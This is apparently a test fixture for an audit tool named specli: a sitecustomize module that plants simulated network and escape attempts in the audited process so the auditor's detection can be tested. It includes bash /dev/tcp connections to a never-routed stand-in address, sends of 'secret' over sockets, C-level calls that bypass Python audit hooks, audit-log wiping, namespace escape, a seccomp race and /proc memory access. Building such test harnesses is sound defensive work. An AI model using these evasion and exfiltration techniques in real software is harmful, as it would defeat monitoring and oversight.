"""Test-only: a network attempt planted in the audited process, the way hostile code would
arrive there (a sitecustomize on PYTHONPATH).

SPECLI_TEST_PLANT=KIND puts this folder's sitecustomize on PYTHONPATH. It acts only in the
audited process (where the auditor set SPECLI_AUDIT_LOG), once per tree: `early` at interpreter
start, before specli is imported; every other kind in the engine's first step; except the
`auditor-*` kinds, which act in specli audit's own interpreter, at its start. The attempt's
outcome goes to stderr as `plant: KIND pid N: ...`. Every attempt aims at 203.0.113.7
(TEST-NET-3, never routed); the tests run it inside a fresh network namespace where that
address is a local listener (tests/standin.py), so nothing can leave the machine.
"""

from __future__ import annotations

import atexit
import ctypes
import os
import socket
import struct
import subprocess
import sys
import time

HOST, PORT = "203.0.113.7", 9
NOWHERE = (HOST, PORT)
CONNECT = f"import socket; socket.create_connection({NOWHERE!r}, timeout=2)"
BASH = f"exec 3<>/dev/tcp/{HOST}/{PORT}"
CHILD_HOLD = ("import socket, sys, time; c = socket.create_connection(('127.0.0.1', "
              "int(sys.argv[1]))); time.sleep(0.4); c.close()")
libc = ctypes.CDLL(None, use_errno=True)


def _sockaddr_in(host: str, port: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", port) + \
        socket.inet_aton(host) + b"\0" * 8


def _c_socket(kind: int) -> int:
    fd = libc.socket(socket.AF_INET, kind, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket")
    return fd


def connect():
    socket.create_connection(NOWHERE, timeout=2).close()


def sendto():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", NOWHERE)


def getaddrinfo():
    socket.getaddrinfo("specli-audit-plant.example", 443)


def c_tcp():
    """C-level TCP connect (no Python socket call), closed at once."""
    fd = _c_socket(socket.SOCK_STREAM)
    addr = _sockaddr_in(HOST, PORT)
    rc = libc.connect(fd, addr, len(addr))
    e = ctypes.get_errno()
    libc.close(fd)
    if rc:
        raise OSError(e, os.strerror(e))


def c_udp(n: int = 1, over: float = 0.0):
    fd = _c_socket(socket.SOCK_DGRAM)
    addr = _sockaddr_in(HOST, PORT)
    try:
        for _ in range(n):
            if libc.sendto(fd, b"x", 1, 0, addr, len(addr)) < 0:
                e = ctypes.get_errno()
                raise OSError(e, os.strerror(e))
            time.sleep(over / n)
    finally:
        libc.close(fd)


def c_udp_burst():
    c_udp(50, 1.0)


def c_dns():
    """libc's resolver, called from C: its query goes to resolv.conf's nameserver."""
    res = ctypes.c_void_p()
    rc = libc.getaddrinfo(b"specli-audit-plant.example", b"443", None, ctypes.byref(res))
    if rc == 0:
        libc.freeaddrinfo(res)
    else:
        raise OSError(f"getaddrinfo: {rc}")


def posix_spawn():
    pid = os.posix_spawn("/bin/bash", ["bash", "-c", BASH], dict(os.environ))
    if os.waitpid(pid, 0)[1]:
        raise OSError("bash /dev/tcp failed")


def system():
    if libc.system(f"bash -c '{BASH}' 2>/dev/null".encode()):
        raise OSError("bash /dev/tcp failed")


def python_isolated_child():
    r = subprocess.run([sys.executable, "-I", "-c", CONNECT], capture_output=True, text=True)
    if r.returncode:
        raise OSError(r.stderr.strip().splitlines()[-1])


def daemon():
    """A double-forked daemon: connects 1 s later (after the run ended), then stays."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1.0)
            try:
                connect()
            except OSError:
                pass
            time.sleep(60)
        os._exit(0)


def at_exit():
    atexit.register(lambda: _quiet(connect))


def tamper():
    """Silence everything the audited process can reach, then hold a connection for 1 s."""
    for name in ("specli_audit_recorder", "sitecustomize"):
        rec = sys.modules.get(name)
        if rec is not None and hasattr(rec, "uninstall"):
            rec.uninstall()
    log = os.environ.pop("SPECLI_AUDIT_LOG", None)
    if log:
        open(log, "w").close()  # what was recorded so far: gone
    fd = _c_socket(socket.SOCK_STREAM)
    addr = _sockaddr_in(HOST, PORT)
    rc = libc.connect(fd, addr, len(addr))
    e = ctypes.get_errno()
    time.sleep(1.0)
    libc.close(fd)
    if rc:
        raise OSError(e, os.strerror(e))


def setns_escape():
    """Join the auditor's network namespace (where the stand-in listens), then connect: the
    filter refuses setns and the user namespace leaves no capability for it, so the connect
    stays in the audited namespace."""
    try:
        fd = os.open(f"/proc/{os.getppid()}/ns/net", os.O_RDONLY)
        joined = libc.setns(fd, 0x40000000) == 0  # CLONE_NEWNET
        os.close(fd)
    except OSError as e:  # the auditor is not dumpable: its namespace is not even opened
        joined = e.strerror
    print(f"plant: setns joined={joined}", file=sys.stderr, flush=True)
    connect()


def loopback():
    with socket.create_server(("127.0.0.1", 0)) as srv, \
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        c = socket.create_connection(srv.getsockname())
        peer, _ = srv.accept()
        udp.sendto(b"x", srv.getsockname())  # auto-binds the UDP socket to 0.0.0.0
        time.sleep(0.2)  # long enough for the /proc poll to see every socket
        c.close()
        peer.close()


def child_unhooked():
    """A child the audit hook cannot see (python -I ignores PYTHONPATH) holds a loopback
    connection: seccomp and the /proc poll report it."""
    with socket.create_server(("127.0.0.1", 0)) as srv:
        child = subprocess.Popen([sys.executable, "-I", "-c", CHILD_HOLD,
                                  str(srv.getsockname()[1])])
        peer, _ = srv.accept()
        child.wait()
        peer.close()


def unix_path():
    """A daemon outside the run (docker.sock, a proxy) over a unix socket with a path: the
    network namespace does not scope those ($SPECLI_TEST_UNIX, the test's listener)."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(os.environ["SPECLI_TEST_UNIX"])
        s.sendall(b"secret")


def unix_dgram():
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", os.environ["SPECLI_TEST_UNIX"] + ".dgram")


def unix_bind():
    """A listener on a path: a process outside could connect in and take what it sends."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.bind(os.environ["SPECLI_TEST_UNIX"] + ".in")
        s.listen()


def unix_race():
    """A thread rewrites the destination while connect runs: an abstract address (scoped by
    the namespace) when the auditor reads it, the daemon's path when the kernel does. The
    known limit of seccomp user notification, if the auditor let the call continue."""
    import threading

    def sun(name: bytes) -> bytes:
        return struct.pack("=H", socket.AF_UNIX) + name.ljust(108, b"\0")

    good, bad = sun(b"\0specli-race"), sun(os.environ["SPECLI_TEST_UNIX"].encode())
    buf = ctypes.create_string_buffer(good, len(good))
    stop = threading.Event()

    def flip():
        while not stop.is_set():
            ctypes.memmove(buf, bad, len(bad))
            ctypes.memmove(buf, good, len(good))

    t = threading.Thread(target=flip)
    t.start()
    got, deadline = 0, time.time() + 1.5
    try:
        while time.time() < deadline:
            fd = libc.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0)
            if libc.connect(fd, buf, len(good)) == 0:
                libc.send(fd, b"raced", 5, 0)
                got += 1
            libc.close(fd)
    finally:
        stop.set()
        t.join()
    if not got:
        raise OSError("no connect got through")


def hidden_start():
    """Start a program, then erase the recorder's log (which the audited process can
    write): the start is still recorded, by the auditor."""
    pid = os.posix_spawn("/bin/true", ["true"], dict(os.environ))
    os.waitpid(pid, 0)
    log = os.environ.get("SPECLI_AUDIT_LOG")
    if log:
        open(log, "w").close()


def proc_mem():
    """Reach into a process outside the run (the test's own, in the host's namespace) through
    /proc: its memory, to make it connect on the run's behalf."""
    target = os.environ["SPECLI_TEST_TARGET"]
    fd = os.open(f"/proc/{target}/mem", os.O_RDWR)
    os.close(fd)


def capabilities():
    """Report what the run may do as root: CAP_NET_ADMIN (bit 12) lets netlink move a host
    interface into its namespace."""
    eff = next(int(line.split()[1], 16) for line in open("/proc/self/status")
               if line.startswith("CapEff"))
    print(f"plant: capabilities net_admin={bool(eff >> 12 & 1)} "
          f"sys_admin={bool(eff >> 21 & 1)}", file=sys.stderr, flush=True)


def _later(delay: float) -> None:
    time.sleep(delay)
    _quiet(lambda: socket.create_connection(NOWHERE, timeout=2).sendall(b"secret"))


def auditor_thread():
    """In specli audit's own interpreter (not the audited run): wait for the run, then
    connect from there, where nothing watches."""
    import threading

    threading.Thread(target=_later, args=(1.5,)).start()


def auditor_fork():
    if os.fork() == 0:
        _later(3.0)
        os._exit(0)


PLANTS = {"connect": connect, "sendto": sendto, "getaddrinfo": getaddrinfo, "c-tcp": c_tcp,
          "c-udp": c_udp, "c-udp-burst": c_udp_burst, "c-dns": c_dns,
          "posix-spawn": posix_spawn, "system": system, "python-I": python_isolated_child,
          "daemon": daemon, "atexit": at_exit, "tamper": tamper, "early": connect,
          "setns": setns_escape,
          "loopback": loopback, "child-unhooked": child_unhooked,
          "unix": unix_path, "unix-dgram": unix_dgram, "unix-bind": unix_bind,
          "unix-race": unix_race, "hidden-start": hidden_start,
          "auditor-thread": auditor_thread, "auditor-fork": auditor_fork,
          "proc-mem": proc_mem, "capabilities": capabilities}
AUDITOR = ("auditor-thread", "auditor-fork")  # they act in specli audit's interpreter


def _quiet(fn):
    try:
        fn()
    except OSError:
        pass


def _run(kind: str) -> None:
    try:
        PLANTS[kind]()
        outcome = "ok"
    except OSError as e:
        outcome = f"{type(e).__name__}: {e}"
    print(f"plant: {kind} pid {os.getpid()}: {outcome}", file=sys.stderr, flush=True)


def _arm(kind: str) -> None:
    os.environ["SPECLI_TEST_PLANT_DONE"] = "1"  # once per tree: children do not plant again
    if kind == "early":
        _run(kind)
        return
    from specli import engine

    step, done = engine.Engine._step, []

    def planted(self, *a, **k):
        if not done:
            done.append(1)
            _run(kind)
        return step(self, *a, **k)

    engine.Engine._step = planted


_kind = os.environ.get("SPECLI_TEST_PLANT")
if _kind in AUDITOR:
    if not os.environ.get("SPECLI_AUDIT_LOG") and "audit" in sys.argv[1:2]:
        _run(_kind)
elif _kind and os.environ.get("SPECLI_AUDIT_LOG") and \
        not os.environ.get("SPECLI_TEST_PLANT_DONE"):
    _arm(_kind)
